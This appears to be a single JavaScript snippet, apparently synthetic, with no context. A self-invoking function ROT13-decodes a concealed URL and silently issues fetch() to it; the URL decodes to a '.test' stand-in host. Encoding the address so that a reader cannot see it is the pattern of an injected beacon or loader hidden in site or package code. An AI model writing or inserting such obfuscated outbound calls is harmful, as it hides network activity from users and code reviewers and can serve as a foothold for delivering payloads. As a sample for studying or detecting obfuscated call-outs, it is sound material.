(()=>{var e=r=>r.replace(/[a-z]/gi,g=>String.fromCharCode((g<="Z"?90:122)>=(g=g.charCodeAt(0)+13)?g:g-26));fetch(e("uggcf://ebg.fubc.grfg/i1"));})();
